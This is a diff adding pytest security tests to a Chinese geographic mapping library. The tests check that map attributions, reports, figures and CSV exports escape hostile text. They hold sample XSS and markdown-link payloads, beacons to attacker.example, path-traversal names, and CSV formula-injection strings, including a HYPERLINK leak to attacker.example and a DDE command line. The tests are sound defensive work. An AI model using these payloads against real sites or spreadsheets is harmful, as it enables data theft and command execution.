@@ -489,3 +489,325 @@ def test_choropleth_column_names_and_long_keys():
             {"platforms": [{"id": "x", "name": "a", "cluster": "central", "partners": ["遂" * 300_000]}]}
         )
     assert __import__("time").perf_counter() - start < 2, "a huge name is refused at once"
+
+
+# --------------------------------------------------------------------------- issue 19: shared files
+
+HOSTILE = "<img src=x onerror=alert(1)> $\\undefinedmacro$ {{7*7}} [x](javascript:alert(1))"
+
+HOSTILE_CHILD = r"""
+import json, subprocess, sys, warnings
+from pathlib import Path
+import matplotlib.text
+import pandas as pd
+import chuanyu_geo as cg
+from chuanyu_geo import maps
+warnings.simplefilter("ignore")
+out = Path(sys.argv[1])
+v = "2099"
+for lang in ("zh", "en", "zh+en"):
+    maps.save_map(cg.platform_map(vintage=v, tiles=None, offline=True, lang=lang), out / f"platform-{lang}.html")
+maps.save_map(cg.adjacency_map(vintage=v, tiles=None, offline=True), out / "adjacency.html")
+units = cg.unit_table("county", v)
+table = pd.DataFrame({"adcode": units["adcode"], "lat": units["label_lat"]})
+maps.save_map(cg.choropleth(table, "lat", "adcode", vintage=v, k=3, tiles=None, offline=True), out / "choropleth.html")
+local = cg.lisa(table, "lat", "adcode", vintage=v, permutations=99, seed=1)
+maps.save_map(cg.lisa_map(local, tiles=None, offline=True), out / "lisa.html")
+cg.adjacency_report(vintage=v).write(out / "report", formats=("md", "html", "csv", "map"))
+run = subprocess.run([sys.executable, "-m", "chuanyu_geo.cli", "map", "--offline", "--vintage", v, "-o",
+                      str(out / "cli.html")], capture_output=True, text=True)
+assert run.returncode == 0, run.stderr
+texts = {}
+for name, fig in (("platforms", cg.plot_platforms(vintage=v, lang="en")),
+                  ("adjacency", cg.plot_adjacency(vintage=v, lang="en")),
+                  ("lisa", cg.plot_lisa(local, lang="en"))):
+    for ext in ("png", "pdf", "svg"):
+        fig.savefig(out / f"{name}.{ext}")
+    # As drawn: what matplotlib shows after its own mathtext preprocessing.
+    texts[name] = [t._preprocess_math(t.get_text())[0] for t in fig.findobj(matplotlib.text.Text) if t.get_text()]
+print(json.dumps(texts, ensure_ascii=False))
+"""
+
+
+@pytest.fixture(scope="module")
+def hostile_pack(tmp_path_factory):
+    """A shared data pack whose manifest ``source`` and vintage ``short``/``short_zh`` carry
+    markup: every map, the report's map, the CLI map and the figures built from it."""
+    import hashlib
+
+    import geopandas as gpd
+
+    from chuanyu_geo import boundaries
+
+    root = tmp_path_factory.mktemp("hostile")
+    pack = root / "pack"
+    (pack / "boundaries").mkdir(parents=True)
+    (pack / "vintages.toml").write_text(
+        '[[vintages]]\nid = "2099"\ndate = "2099-12-31"\n'
+        f"description = {_toml_str(HOSTILE)}\nshort = {_toml_str(HOSTILE)}\nshort_zh = {_toml_str(HOSTILE)}\n",
+        encoding="utf-8",
+    )
+    files = {}
+    manifest = json.loads((boundaries.data_dir() / "manifest.json").read_text(encoding="utf-8"))
+    for level in boundaries.LEVELS:
+        for detail in boundaries.DETAILS:
+            source = boundaries.data_dir() / boundaries.layer_filename(level, "2025", detail)
+            name = boundaries.layer_filename(level, "2099", detail)
+            gdf = gpd.read_file(source)
+            gdf["vintage"] = "2099"
+            gdf.to_file(pack / "boundaries" / name, driver="FlatGeobuf")
+            raw = (pack / "boundaries" / name).read_bytes()
+            entry = dict(manifest["files"][source.name])
+            files[name] = {
+                **entry,
+                "vintage": "2099",
+                "source": HOSTILE,
+                "sha256": hashlib.sha256(raw).hexdigest(),
+                "bytes": len(raw),
+            }
+    (pack / "boundaries" / "manifest.json").write_text(json.dumps({"files": files}), encoding="utf-8")
+    out = root / "out"
+    out.mkdir()
+    env = dict(os.environ, CHUANYU_GEO_DATA=str(pack), MPLBACKEND="Agg")
+    run = subprocess.run(
+        [sys.executable, "-c", HOSTILE_CHILD, str(out)],
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=900,
+        cwd=root,
+    )
+    assert run.returncode == 0, run.stderr[-3000:]
+    return out, json.loads(run.stdout.strip().splitlines()[-1])
+
+
+HOSTILE_PAGES = [
+    "platform-zh.html",
+    "platform-en.html",
+    "platform-zh+en.html",
+    "adjacency.html",
+    "choropleth.html",
+    "lisa.html",
+    "report/map.html",
+    "cli.html",
+]
+
+
+@pytest.mark.parametrize("name", HOSTILE_PAGES)
+def test_data_pack_text_in_the_attribution_is_shown_not_run(browser, hostile_pack, name):
+    out, _ = hostile_pack
+    page, events = _open(browser, out / name)
+    page.wait_for_selector(".leaflet-control-attribution")
+    attribution = page.locator(".leaflet-control-attribution").inner_text()
+    assert "<img src=x onerror=alert(1)>" in attribution, attribution
+    assert "{{7*7}}" in attribution and "49" not in attribution
+    assert (
+        page.locator(
+            ".leaflet-control-attribution img, .leaflet-control-attribution a[href^=javascript]"
+        ).count()
+        == 0
+    )
+    _assert_inert(page, events)
+    page.close()
+
+
+def test_data_pack_text_in_figures_is_literal_and_saves(hostile_pack):
+    out, texts = hostile_pack
+    for name in ("platforms", "adjacency", "lisa"):
+        for ext in ("png", "pdf", "svg"):
+            assert (out / f"{name}.{ext}").stat().st_size > 1000, (name, ext)
+        assert any(HOSTILE in t for t in texts[name]), f"{name}: the source is shown as written"
+    svg = (out / "platforms.svg").read_text(encoding="utf-8")
+    assert "<img" not in svg and "&lt;img src=x" in svg
+
+
+def test_report_of_a_data_pack_escapes_its_markdown_and_html(hostile_pack):
+    out, _ = hostile_pack
+    md = (out / "report" / "report.md").read_text(encoding="utf-8")
+    import markdown
+
+    rendered = markdown.markdown(md, extensions=["tables"])
+    assert "<img" not in md and "<img" not in rendered and 'href="javascript' not in rendered
+    html = (out / "report" / "report.html").read_text(encoding="utf-8")
+    assert "<img src=x" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
+
+
+def test_tripwire_refuses_raw_markup_that_skipped_the_gate():
+    from chuanyu_geo._safe import html_hazard
+
+    for markup in (
+        "<img src=x onerror=alert(1)>",
+        "<span onmouseover=alert(1)>x</span>",
+        "<a href='javascript:alert(1)'>x</a>",
+        '<a href="java&#115;cript:alert(1)">x</a>',
+        "<div style='background:url(http://attacker.example/b.png)'>x</div>",
+        "<svg/onload=alert(1)>",
+        "<!-- x -->",
+        "<script>alert(1)</script>",
+        "<iframe src=x>",
+        "<img src=x onerror=alert(1)",  # unclosed at the end of the text
+    ):
+        assert html_hazard(markup), markup
+    for ours in (
+        "<span style='color:#555'>万州区</span>",
+        "<div><b>遂潼</b><br>&lt;img&gt;</div>",
+        '<a href="https://www.openstreetmap.org/copyright">OpenStreetMap</a>',
+        "1 &lt; 2",
+    ):
+        assert html_hazard(ours) is None, ours
+    m = cg.platform_map(tiles=None)
+    maps._Attribution("<b>x</b>").add_to(m)  # made inert by the element itself
+    m.get_root().render()
+    m = cg.platform_map(tiles=None)
+    m.get_root().html.add_child(maps._Html("<img src=x onerror=alert(1)>"))  # a path that forgot inert()
+    with pytest.raises(UnsafeTextError, match="markup"):
+        m.get_root().render()
+
+
+# Strings that must stay text in Markdown (Python-Markdown and markdown-it-py), as links,
+# images, code, cell breaks or raw HTML they would not be.
+MARKDOWN_PAYLOADS = [
+    "[x](javascript:alert(1))",
+    "![](http://attacker.example/beacon.png)",
+    "a\\|b",
+    "a|b|c",
+    "x>)[click](javascript:alert(1))",
+    "<img src=x onerror=alert(1)>",
+    "[a]: javascript:alert(1)",
+    "<http://attacker.example>",
+    "&#91;x&#93;(javascript:alert(1))",
+    "`code` *em* _u_ \\",
+]
+
+
+@pytest.mark.parametrize("renderer", ["python-markdown", "markdown-it-py"])
+def test_report_markdown_renders_as_text(renderer):
+    import re
+
+    if renderer == "python-markdown":
+        import markdown
+
+        def render(text):
+            return markdown.markdown(text, extensions=["tables"])
+    else:
+        from markdown_it import MarkdownIt
+
+        render = MarkdownIt("commonmark").enable("table").render
+    meta = {**cg.adjacency_report().meta, "level": MARKDOWN_PAYLOADS[0], "vintage": MARKDOWN_PAYLOADS[1]}
+    tables = {"t_1": pd.DataFrame({p: [p, "ok"] for p in MARKDOWN_PAYLOADS})}
+    html = render(AdjacencyReport(meta=meta, tables=tables).to_markdown())
+    assert "<img" not in html and 'href="javascript' not in html and "<a " not in html
+    assert "<code>" not in html and "<em>" not in html
+    table = html[html.index("<table") : html.index("</table>")]
+    rows = re.findall(r"<tr>(.*?)</tr>", table, re.S)
+    assert [len(re.findall(r"<t[hd][ >]", row)) for row in rows] == [len(MARKDOWN_PAYLOADS)] * 3
+    import html as htmllib
+
+    cells = [htmllib.unescape(c) for c in re.findall(r"<td[^>]*>(.*?)</td>", rows[1], re.S)]
+    assert cells == [" ".join(p.split()) for p in MARKDOWN_PAYLOADS]
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        "javascript&colon;alert(1)",
+        "&#106;avascript:alert(1)",
+        "java\tscript:alert(1)",
+        "x>)[click](javascript:alert(1))",
+        "/\\evil.example/x",
+        "\\\\evil.example\\share",
+        'map.html" onclick="alert(1)',
+        "a b.html",
+        "C:/x",
+        "",
+    ],
+)
+def test_safe_link_refuses_bypasses(link):
+    report = cg.adjacency_report()
+    with pytest.raises(cg.InvalidArgumentError, match="is not allowed"):
+        report.to_markdown(map_link=link or " ")
+    with pytest.raises(cg.InvalidArgumentError, match="is not allowed"):
+        report.to_html(map_link=link or " ")
+
+
+@pytest.mark.parametrize(
+    "name", ["../escaped", "../../victim/keep", "/tmp/absolute", "a/b", "nul", "", "x.csv", 5]
+)
+def test_report_table_names_cannot_leave_the_folder(tmp_path, name):
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    (victim / "keep.csv").write_text("kept\n", encoding="utf-8")
+    meta = cg.adjacency_report().meta
+    with pytest.raises(cg.InvalidArgumentError, match="table name"):
+        AdjacencyReport(meta=meta, tables={name: pd.DataFrame({"a": [1]})})
+    report = AdjacencyReport(meta=meta, tables={"ok": pd.DataFrame({"a": [1]})})
+    report.tables[name] = pd.DataFrame({"a": [1]})  # added after construction: checked on write
+    work = tmp_path / "work"
+    for call in (
+        lambda: report.write(work / "report"),
+        lambda: report.to_csv(work / "csv"),
+        report.to_markdown,
+    ):
+        with pytest.raises(cg.InvalidArgumentError, match="table name"):
+            call()
+    assert (victim / "keep.csv").read_text(encoding="utf-8") == "kept\n"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["victim"], "nothing written anywhere"
+
+
+def test_report_formats_are_checked(tmp_path):
+    report = cg.adjacency_report()
+    for formats in (("pdf",), ("md", "docx"), (), "xlsx"):
+        with pytest.raises(cg.InvalidArgumentError, match="formats="):
+            report.write(tmp_path / "r", formats=formats)
+    assert not (tmp_path / "r").exists()
+    assert (report.write(tmp_path / "r", formats="md") / "report.md").exists()
+
+
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?leak="&A2,"x")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+cmd",
+    "@SUM(A1)",
+    "\tx",
+    "\rx",
+]
+
+
+def _formula_cells(path: Path) -> list[str]:
+    import csv
+
+    with open(path, encoding="utf-8-sig", newline="") as fh:
+        cells = [cell for row in csv.reader(fh) for cell in row]
+    return [
+        c
+        for c in cells
+        if c[:1] in ("=", "+", "-", "@", "\t", "\r")
+        and pd.to_numeric(c, errors="coerce") != pd.to_numeric(c, errors="coerce")
+    ]
+
+
+def test_report_csvs_hold_no_formulas(tmp_path):
+    meta = cg.adjacency_report().meta
+    table = pd.DataFrame(
+        {
+            "text": FORMULAS,
+            "number": [-1.5, 2, -3, 4, 5, 6, 7],
+            "numtext": ["-1.5", "+2", "-3e2", "4", "5", "6", "7"],
+        }
+    )
+    table["=header"] = 1
+    folder = AdjacencyReport(meta=meta, tables={"t": table}).to_csv(tmp_path / "csv")
+    assert _formula_cells(folder / "t.csv") == []
+    back = pd.read_csv(folder / "t.csv", encoding="utf-8-sig", keep_default_na=False)
+    assert back["text"].tolist() == ["'" + f for f in FORMULAS]
+    assert back["number"].tolist() == [-1.5, 2, -3, 4, 5, 6, 7], "numbers stay numbers"
+    as_text = pd.read_csv(folder / "t.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
+    assert as_text["numtext"].tolist() == table["numtext"].tolist(), (
+        "numbers written as text are not prefixed"
+    )
+    assert "'=header" in back.columns
+    raw = AdjacencyReport(meta=meta, tables={"t": table}).to_csv(tmp_path / "raw", escape_formulas=False)
+    assert pd.read_csv(raw / "t.csv", encoding="utf-8-sig")["text"].tolist()[0] == FORMULAS[0]
+    for name in cg.adjacency_report().write(tmp_path / "full").glob("*.csv"):
+        assert _formula_cells(name) == [], name
